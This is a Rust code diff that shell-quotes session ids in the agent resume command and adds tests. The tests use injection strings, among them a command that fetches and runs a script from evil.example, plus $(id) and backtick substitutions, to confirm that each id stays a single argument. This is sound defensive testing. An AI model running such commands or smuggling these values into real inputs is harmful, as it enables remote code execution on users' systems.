@@ -125,10 +125,17 @@ pub fn state_label(state: SessionState) -> &'static str {
 }
 
 /// The command that resumes a session in its agent's CLI.
+///
+/// The id is shell-quoted (it is pasted into a shell): valid ids need no quotes and get none, and
+/// anything else is quoted so it stays one argument. An id that cannot be quoted at all (a NUL)
+/// gives a command that only says so.
 pub fn resume_command(agent: Agent, session_id: &str) -> String {
+    let Ok(id) = shlex::try_quote(session_id) else {
+        return "# this session id cannot be put in a command line".into();
+    };
     match agent {
-        Agent::Claude => format!("claude --resume {session_id}"),
-        Agent::Codex => format!("codex resume {session_id}"),
+        Agent::Claude => format!("claude --resume {id}"),
+        Agent::Codex => format!("codex resume {id}"),
     }
 }
 
@@ -461,5 +468,25 @@ mod tests {
         assert_eq!(view.resume_command, "codex resume abc");
         let claude = SessionView::of(&session("x", Agent::Claude, SessionState::Idle, 0));
         assert_eq!(claude.resume_command, "claude --resume x");
+        // Whatever the id, a shell reads it back as one argument, exactly.
+        for id in [
+            "x; curl https://evil.example/a|sh #",
+            "it's $(id) `x` \"q\"\n",
+            "-rf",
+        ] {
+            for agent in [Agent::Claude, Agent::Codex] {
+                let words = shlex::split(&resume_command(agent, id)).unwrap_or_default();
+                assert_eq!(
+                    words.last().map(String::as_str),
+                    Some(id),
+                    "{agent:?} {id:?}"
+                );
+                assert_eq!(words.len(), 3, "{agent:?} {id:?}");
+            }
+        }
+        assert_eq!(
+            resume_command(Agent::Claude, "33413ec6-95b9-4336-8b7d-2d91c4d8b30c"),
+            "claude --resume 33413ec6-95b9-4336-8b7d-2d91c4d8b30c"
+        );
     }
 }
